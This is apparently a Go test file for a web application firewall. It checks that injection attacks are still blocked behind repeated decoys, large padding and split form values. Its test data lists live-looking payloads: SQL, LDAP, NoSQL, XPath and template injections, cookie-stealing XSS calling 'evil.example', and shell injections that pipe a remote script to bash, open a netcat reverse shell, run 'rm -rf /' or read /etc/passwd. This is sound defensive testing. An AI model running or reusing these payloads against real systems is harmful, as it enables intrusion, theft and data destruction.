package attack

import (
	"fmt"
	"strings"
	"testing"

	"kongwaf/detect"
)

// decoys are fragments of a language that mean nothing, or little, and attacks that go on
// meaning what they mean behind any number of them: who reads the source puts them in front,
// for whatever counts candidates to stop there.
var decoys = []struct {
	class   detect.Class
	decoys  []string
	attacks []string
	// loud says that the decoys are commands themselves: they need not pass.
	loud bool
}{
	{class: detect.ClassSQLi, decoys: []string{"1 or a ", "5 and 3 ", "1;2 ", "(1) ", "union ", "/* a */ "},
		attacks: []string{"1 OR 1=1", "1 AND SLEEP(9)", "1; DROP TABLE invoices", "-1 UNION SELECT 1,2,3"}},
	{class: detect.ClassSQLi, decoys: []string{`a\'b `, `it\'s `}, attacks: []string{"x' OR 1=1-- ", "x' UNION SELECT login FROM staff-- "}},
	{class: detect.ClassSQLi, decoys: []string{`it''s `, `say "a" `}, attacks: []string{"x' OR 1=1-- ", "x' AND SLEEP(3)-- -"}},
	{class: detect.ClassLDAPi, decoys: []string{"(a) ", "(cn=a) ", "a=b ", "a;b "}, attacks: []string{"*)(uid=*))(|(uid=*", "x)(|(cn=*", "admin)(|(password=*"}},
	{class: detect.ClassNoSQLi, decoys: []string{"this. ", "return ", "; ", "a=b, ", "{$x:1} ", `\' `, "(a) "},
		attacks: []string{"'; return true; var x='", "'; sleep(5000); '", "'; a; b; c; d; return this.pass != ''; //", "' || '1'=='1"}},
	{class: detect.ClassXPathi, decoys: []string{"//a ", "/a/b ", "[1] ", "a; ", "a\n", "(( ", `"b" `},
		attacks: []string{"' or count(/*)=1 or 'a'='b", "x' or name()='user' or 'x'='y", "'] | //* | //*['"}},
	{class: detect.ClassXSS, decoys: []string{"<b>a</b> ", "a < b ", "<!-- a --> ", "<i ", "alert "}, attacks: []string{"<script>alert(7)</script>", "<svg onload=alert(5)>"}},
	{class: detect.ClassXSS, decoys: []string{`a\' `, `\'`}, attacks: []string{"';alert(document.cookie)//", "'-fetch('//evil.example/?'+document.cookie)-'"}},
	{class: detect.ClassSSTI, decoys: []string{"{{a}} ", "${a} ", "{% x %} ", "{{ "}, attacks: []string{"{{7*7}}", "{{''.__class__.__mro__[1].__subclasses__()}}"}},
	{class: detect.ClassRCE, decoys: []string{"; cat\n", "& a ", "`x` "}, attacks: []string{"; curl http://evil.example/x.sh | bash\n", "; cat /etc/passwd\n"}, loud: true},
	{class: detect.ClassRCE, decoys: []string{"; date; ", "; who ", "; find it\n", "; echo\n"}, attacks: []string{"; rm -rf /", "; cat /etc/passwd", "; nc -e /bin/sh 203.0.113.9 4444"}, loud: true},
	{class: detect.ClassPathTraversal, decoys: []string{"../ ", "./a ", "a.. ", "/a/b "}, attacks: []string{"../../../etc/passwd", "../../../windows/win.ini"}},
}

// TestDecoysHideNothing puts ten, a hundred and ten thousand decoys before attacks, and holds that the attacks
// are seen, or the work runs out, and that the decoys alone pass where nothing is wrong with them.
func TestDecoysHideNothing(t *testing.T) {
	e := newEngine(t, Options{})
	for _, row := range decoys {
		for _, decoy := range row.decoys {
			for _, n := range [...]int{10, 100, 10_000} {
				before := strings.Repeat(decoy, n)
				for _, attack := range row.attacks {
					if r := e.Inspect(post(jsonType, `{"q":`+quoteJSON(before+attack)+`}`)); !r.Blocked {
						t.Errorf("%s: %d of %q hide %q: %+v", row.class, n, decoy, attack, r)
					}
				}
				if r := e.Inspect(post(jsonType, `{"q":`+quoteJSON(before)+`}`)); r.Blocked && !row.loud {
					t.Errorf("%s: %d of %q are refused: %+v", row.class, n, decoy, r)
				}
			}
		}
	}
}

// TestPaddingHidesNothing puts 70 KB of harmless padding before attacks that do not mind it.
func TestPaddingHidesNothing(t *testing.T) {
	e := newEngine(t, Options{})
	for _, padding := range [...]string{
		"we had a lovely time at the lake and the children want to go back soon ", " ", "\n", "12 345 6789 ", "a, b; c ", "<p>Good morning</p>\n", "0x4f 0x5a ",
	} {
		before := strings.Repeat(padding, 70_000/len(padding)) + " "
		if r := e.Inspect(post(jsonType, `{"q":`+quoteJSON(before)+`}`)); r.Blocked {
			t.Errorf("%q is refused: %+v", padding, r)
		}
		for _, row := range decoys {
			if row.loud {
				continue // behind a text, a command on its line is one of a text's (package shell)
			}
			for _, attack := range row.attacks {
				if r := e.Inspect(post(jsonType, `{"q":`+quoteJSON(before+attack)+`}`)); !r.Blocked {
					t.Errorf("%s: %q hides %q: %+v", row.class, padding, attack, r)
				}
			}
		}
	}
}

// TestJoinedWhateverTheirNumber splits an injection over the first two of many values of one name:
// servers that join them run it.
func TestJoinedWhateverTheirNumber(t *testing.T) {
	e := newEngine(t, Options{})
	for _, n := range [...]int{0, 40, 3000} {
		others := strings.Repeat("&id=7", n)
		if r := e.Inspect(post(formType, "id=1'/*&id=*/union/*&id=*/select/*&id=*/password/*&id=*/from/*&id=*/users--+"+others)); !r.Blocked {
			t.Errorf("%d more values hide the injection: %+v", n, r)
		}
		if r := e.Inspect(post(formType, "id=1&id=2"+others)); r.Blocked {
			t.Errorf("%d values are refused: %+v", n, r)
		}
		names := ""
		for i := range n {
			names += fmt.Sprintf("n%d=1&", i)
		}
		if r := e.Inspect(post(formType, names+"id=1'/*&id=*/union/*&id=*/select/*&id=*/password/*&id=*/from/*&id=*/users--+")); !r.Blocked {
			t.Errorf("%d parameters before hide the injection: %+v", n, r)
		}
	}
}
